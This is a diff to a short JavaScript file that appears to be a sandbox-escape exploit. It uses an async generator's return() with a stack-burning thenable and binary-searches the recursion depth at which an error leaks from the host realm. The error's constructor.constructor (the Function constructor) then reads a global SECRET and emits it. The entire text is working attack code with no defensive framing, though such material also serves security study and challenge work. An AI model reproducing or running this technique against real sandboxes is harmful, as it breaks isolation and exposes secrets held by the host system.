@@ -12,23 +12,28 @@ const inner = {
 };
 async function* outer() { yield* inner; }
 const grab = async (depth) => {
-  const own = outer();
-  await own.next();
-  return (await own.return({ then(settle) { burn(depth); settle(); } })).value;
+  try {
+    const own = outer();
+    await own.next();
+    return (await own.return({ then(settle) { burn(depth); settle(); } })).value;
+  } catch {
+    return null;  // too deep
+  }
+};
+const reach = (error) => {
+  const secret = error ? error.constructor.constructor('return globalThis.SECRET')() : null;
+  if (secret) emit(secret);
 };
 const search = async () => {
-  let low = 0;
-  let high = 20000;
+  let [low, high] = [0, 60000];
   while (low < high) {
     const middle = (low + high) >> 1;
-    const error = await grab(middle).catch(() => null);
-    if (error) reach(error);
-    if (error instanceof Own) low = middle + 1;
-    else high = middle;
+    const error = await grab(middle);
+    reach(error);
+    [low, high] = error instanceof Own ? [middle + 1, high] : [low, middle];
   }
-  for (let depth = low - 60; depth < low + 60; depth += 1) reach(await grab(depth).catch(() => null) || 0);
+  for (let depth = low - 60; depth < low + 60; depth += 1) reach(await grab(depth));
 };
-const reach = (error) => emit(error.constructor.constructor('return globalThis.SECRET')() || '');
 at_step();
-search().then(() => 0, () => 0);  // step
+search();  // step
 past_step();
